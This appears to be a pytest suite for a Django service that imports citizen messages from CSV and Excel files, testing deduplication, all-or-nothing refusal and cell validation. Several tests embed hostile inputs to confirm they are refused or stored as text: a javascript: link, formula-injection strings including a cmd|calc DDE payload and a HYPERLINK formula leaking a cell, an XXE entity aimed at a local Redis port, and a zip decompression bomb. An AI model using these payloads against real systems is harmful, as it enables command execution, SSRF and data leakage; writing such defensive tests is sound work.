"""Messages come in from CSV and Excel files: all or none, and never twice."""

import io
import zipfile
from datetime import datetime
from io import StringIO
from pathlib import Path

import pytest
import yaml
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from openpyxl import Workbook

from core import clock as core_clock
from core.tables import ImportRefused, TableError
from inquiries import services
from inquiries.intake.importing import import_inquiries
from inquiries.models import CitizenContact, Event, Inquiry
from tests.core.helpers import in_threads
from tests.factories import make_account, make_platform

pytestmark = pytest.mark.django_db

FILE = Path(__file__).parents[2] / "data" / "bad_inputs.yaml"
CASES = {
    case["id"]: case
    for case in yaml.safe_load(FILE.read_text(encoding="utf-8"))
    if case["area"] == "csv_import"
}
HEAD = "isi;jenis;akun;penulis;nama;tautan;waktu;kontak;id_luar"
FULL = (
    "Lampu mati.;Kritik;@dishub.berau;@warga;Ani;https://contoh.test/p/1;"
    "2026-11-20 08:12;081234567890;ig-1"
)


def table(*lines: str, head: str = HEAD) -> bytes:
    return "\n".join([head, *lines]).encode()


def many(count: int) -> list[str]:
    return [f"Soal ke-{n}.;;;;;;;;x-{n}" for n in range(count)]


def excel(*rows: list) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture
def take(officer, dishub):
    def take(content: bytes, **options):
        return import_inquiries(content=content, by=officer, permitted=[dishub.pk], **options)

    return take


def told(case: str, **values: object) -> str:
    message = CASES[case]["expect"]["message"]
    for name, value in values.items():
        message = message.replace(f"{{{name}}}", str(value))
    return message


@pytest.mark.pasal("Lampiran B.1")
def test_a_row_becomes_a_new_message_with_all_its_facts(take, dishub, officer):
    account = make_account(dishub)
    report = take(table(FULL))

    inquiry = Inquiry.objects.get()
    assert report.added == 1
    assert (inquiry.status, inquiry.source, inquiry.claimed_by) == ("NEW", "IMPORT", None)
    assert (inquiry.type, inquiry.account, inquiry.author_handle) == ("CRITICISM", account, "warga")
    assert inquiry.posted_at == datetime(2026, 11, 20, 8, 12, tzinfo=core_clock.WITA)
    assert (inquiry.recorded_by, inquiry.external_id) == (officer, "ig-1")
    assert CitizenContact.objects.get().value == "6281234567890"


def test_the_same_file_twice_adds_nothing(take):
    content = table(*many(3), "Tanpa id.;;;;;;;;", "Tanpa id.;;;;;;;;")

    first, again = take(content), take(content)
    assert (first.added, first.same) == (4, 1)
    assert (again.added, again.same) == (0, 5)
    assert Inquiry.objects.count() == 4


@pytest.mark.django_db(transaction=True)
def test_the_same_file_twice_at_once_adds_nothing(take):
    reports = in_threads(2, lambda: take(table(*many(3))))

    assert sorted(report.added for report in reports) == [0, 3]
    assert Inquiry.objects.count() == 3


def test_a_message_recorded_by_hand_is_known(take, dishub, officer):
    services.record_inquiry(
        agency=dishub, kind="QUESTION", text="Lampu mati.", by=officer,
        account=make_account(dishub), external_id="ig-1",
    )  # fmt: skip

    assert take(table(FULL)).same == 1


def test_a_trial_keeps_nothing(take):
    report = take(table(*many(2)), is_trial=True)

    assert (report.added, report.is_trial) == (2, True)
    assert (Inquiry.objects.count(), Event.objects.count()) == (0, 0)


@pytest.mark.parametrize("content", [b"", table()])
def test_a_file_without_rows_is_refused(take, content):
    with pytest.raises(TableError, match=told("CSV100")):
        take(content)


def test_one_wrong_row_of_many_keeps_all_out(take):
    """CSV101."""
    lines = many(499)
    lines.insert(5, "Halo.;;;;;javascript:alert(1);;;")
    with pytest.raises(ImportRefused) as refusal:
        take(table(*lines))

    assert str(refusal.value) == told("CSV101").replace("'url'", "'tautan'")
    assert "Baris" not in refusal.value.report.as_csv.splitlines()[0]
    assert Inquiry.objects.count() == 0


@pytest.mark.parametrize(
    ("column", "line"),
    [
        ("isi", " ;Saran;;;;;;;x"),
        ("jenis", "Halo.;Marah;;;;;;;"),
        ("akun", "Halo.;;@bukan;;;;;;"),
        ("waktu", "Halo.;;;;;;2026-02-30 08:00;;"),
        ("waktu", "Halo.;;;;;;2099-01-01 08:00;;"),
        ("kontak", "Halo.;;;;;;;bukan kontak;"),
    ],
)
def test_a_wrong_cell_is_named(take, column, line):
    with pytest.raises(ImportRefused, match=f"Baris 2: kolom '{column}' tidak valid."):
        take(table(line))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16-le", "windows-1252"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_every_usual_encoding_and_delimiter_is_read(take, encoding, delimiter):
    """CSV103."""
    lines = [HEAD, *many(500)]
    report = take("\n".join(lines).replace(";", delimiter).encode(encoding))

    assert report.added == 500
    if delimiter == ";":
        assert report.summary == told("CSV103")


def test_formulas_are_kept_as_text(take, officer):
    """CSV104."""
    formulas = ['=HYPERLINK("http://x"&A1)', "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(1)"]
    sheet = excel(["isi"], *([formula] for formula in formulas))

    assert take(sheet).added == 4
    assert sorted(Inquiry.objects.values_list("text", flat=True)) == sorted(formulas)


@pytest.mark.parametrize(
    ("content", "number"),
    [
        (b'isi;jenis\n"tidak ditutup;Saran', 2),
        (b"isi;jenis\nA\x00B;", 2),
        (b"isi;isi\nA;B", 1),
    ],
)
def test_broken_csv_is_refused_with_its_row(take, content, number):
    with pytest.raises(TableError) as refusal:
        take(content)

    assert str(refusal.value) == told("CSV106", n=number)


def test_another_instansi_is_refused(take, dpupr):
    content = table("A.;DISHUB", "B.;DPUPR", head="isi;instansi")
    with pytest.raises(ImportRefused) as refusal:
        take(content)

    assert str(refusal.value).startswith(told("CSV107"))
    assert Inquiry.objects.count() == 0


def test_a_handle_on_two_platforms_asks_for_the_platform(take, dishub):
    make_account(dishub)
    make_account(dishub, platform=make_platform("facebook"))
    head = "isi;akun;platform"

    with pytest.raises(ImportRefused, match="kolom 'akun' tidak valid"):
        take(table("A.;@dishub.berau;", head=head))
    assert take(table("A.;@dishub.berau;Facebook", head=head)).added == 1


def test_an_excel_file_is_read_like_any_other(take):
    rows = [["Isi", "Waktu", "id luar"], ["Halo.", datetime(2026, 11, 20, 8, 12), 17.0]]  # noqa: DTZ001
    report = take(excel(*rows))

    inquiry = Inquiry.objects.get()
    assert report.summary == "1 baris dibaca (Excel, lembar pertama)."
    assert (inquiry.external_id, inquiry.text) == ("17", "Halo.")
    assert core_clock.local(inquiry.posted_at).hour == 8


def changed(content: bytes, *, name: str, body: bytes) -> bytes:
    """The same file with one part put in or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for part in old.infolist():
            if part.filename != name:
                new.writestr(part, old.read(part))
        new.writestr(name, body)
    return out.getvalue()


BOMB = b"<a>" + b"0" * 60_000_000 + b"</a>"
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "http://127.0.0.1:6379/">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<si><t>&x;</t></si></sst>"
)


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("xl/worksheets/sheet1.xml", BOMB),
        ("xl/sharedStrings.xml", XXE),
        ("xl/sharedStrings.xml", XXE.decode().encode("utf-16")),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        ("xl/workbook.xml", b"nothing"),
    ],
)
def test_a_hostile_excel_file_is_refused(take, name, body):
    hostile = changed(excel(["isi"], ["Halo."]), name=name, body=body)
    with pytest.raises(TableError) as refusal:
        take(hostile)

    assert str(refusal.value).startswith(told("CSV109"))  # and says what to do
    assert Inquiry.objects.count() == 0


def test_the_page_tries_takes_and_reports(officer, sign_in):
    desk = sign_in(officer)
    assert desk.get("/pesan/impor/").status_code == 200

    def send(content, **more):
        return desk.post("/pesan/impor/", {"file": SimpleUploadedFile("a.csv", content), **more})

    tried = send(table(*many(2)), is_trial="on")
    assert (tried.status_code, Inquiry.objects.count()) == (200, 0)
    taken = send(table(*many(2)))
    assert (taken.status_code, Inquiry.objects.count()) == (200, 2)
    refused = send(table("A.;Marah;;;;;;;"))
    assert (refused.status_code, Inquiry.objects.count()) == (422, 2)
    assert "Tidak ada baris yang disimpan." in refused.content.decode()


def test_the_command_reports_each_row(officer, tmp_path):
    path, out = tmp_path / "pesan.csv", StringIO()
    path.write_bytes(table(*many(2)))

    call_command("import_inquiries", path, "--by", officer.username, "--dry-run", stdout=out)
    assert Inquiry.objects.count() == 0
    call_command("import_inquiries", path, "--by", officer.username, stdout=out)
    assert "Baris 3: Ditambahkan" in out.getvalue()
    assert Inquiry.objects.count() == 2


def test_the_command_without_a_person_needs_the_instansi(dishub, tmp_path):
    path = tmp_path / "pesan.csv"
    path.write_bytes(table("Halo.", head="isi"))

    with pytest.raises(CommandError, match="kolom 'instansi' tidak valid"):
        call_command("import_inquiries", path, stdout=StringIO())


def test_every_case_of_the_list_is_tried():
    source = Path(__file__).read_text(encoding="utf-8")

    assert [case for case in CASES if case not in source] == []
